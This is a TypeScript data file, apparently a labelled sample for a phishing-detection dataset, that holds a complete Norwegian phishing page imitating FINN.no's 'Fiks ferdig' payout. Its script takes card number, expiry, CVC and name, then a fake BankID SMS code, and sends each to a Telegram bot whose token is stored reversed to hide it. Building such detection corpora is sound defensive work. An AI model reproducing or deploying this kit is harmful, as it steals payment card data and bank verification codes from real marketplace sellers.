import { type Entry } from '../entry.js';
import { doc, rev, logo, cardFields, cardButton } from '../parts/yx-kit.js';

export const entries: Entry[] = [
(() => {
  const tr = rev('8139927410:AAE_nq4T0x2sWk9FvBbL7rUo1YhGzMc5pDi');
  return {
    id: 'yx-finn-fiks-ferdig-seller-tg-kit',
    label: 'phishing',
    kind: 'marketplace-safe-payment-kit',
    url: 'https://finn-no.fiksferdig-utbetaling.site/annonse/298441771/utbetaling',
    body: doc({
      lang: 'no',
      title: 'FINN.no – Fiks ferdig',
      css: `body{margin:0;font-family:"Finntype",Arial,sans-serif;background:#f1f4f9;color:#1b1b1f}.t{background:#fff;padding:12px 24px;box-shadow:0 1px 2px rgba(0,0,0,.1)}.c{max-width:540px;margin:24px auto;background:#fff;border-radius:8px;padding:24px}.pill{display:inline-block;background:#06befb;color:#fff;border-radius:12px;padding:2px 10px;font-size:12px}
.row{display:flex;justify-content:space-between;border-bottom:1px solid #eee;padding:8px 0}.fld label{display:block;font-size:13px;margin-top:8px}.fld input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #a9b1bd;border-radius:4px}.half{display:inline-block;width:48%;margin-right:2%}button{margin-top:16px;width:100%;padding:14px;background:#0063fb;color:#fff;border:0;border-radius:8px;font-size:16px}`,
      body: `<div class="t">${logo.word('FINN', '#0063fb', 28)}</div><div class="c"><span class="pill">Fiks ferdig</span><h2>Kjøper har betalt for varen din</h2>
<div class="row"><span>Annonse</span><b>Stokke Tripp Trapp, eik</b></div><div class="row"><span>Pris</span><b>1 600 kr</b></div><div class="row"><span>Frakt (Posten, betalt av kjøper)</span><b>99 kr</b></div>
<p>For å motta pengene må du legge inn kortet beløpet skal overføres til. Dette er en engangsbekreftelse for nye selgere.</p>
<form id="f">${cardFields('no', ['kortnummer', 'utlop', 'cvc', 'navn'])}<button>${cardButton('no')}</button></form></div>
<script>
var k='${tr}'.split('').reverse().join(''),c='-1002093817345';
document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var f=new FormData(this),t='💰 FINN 298441771';f.forEach(function(v,n){t+='\\n'+n+'='+v});
new Image().src='https://api.telegram.org/bot'+k+'/sendMessage?chat_id='+c+'&text='+encodeURIComponent(t);
setTimeout(function(){document.querySelector('.c').innerHTML='<h2>Bekreft i banken din</h2><p>Vi har sendt en forespørsel til BankID. Skriv inn koden du mottar på SMS.</p><input id=s><button onclick="new Image().src=\\'https://api.telegram.org/bot\\'+k+\\'/sendMessage?chat_id=\\'+c+\\'&text=SMS+\\'+s.value">OK</button>'},800)});
</script>`,
    }),
  } satisfies Entry;
})(),
];
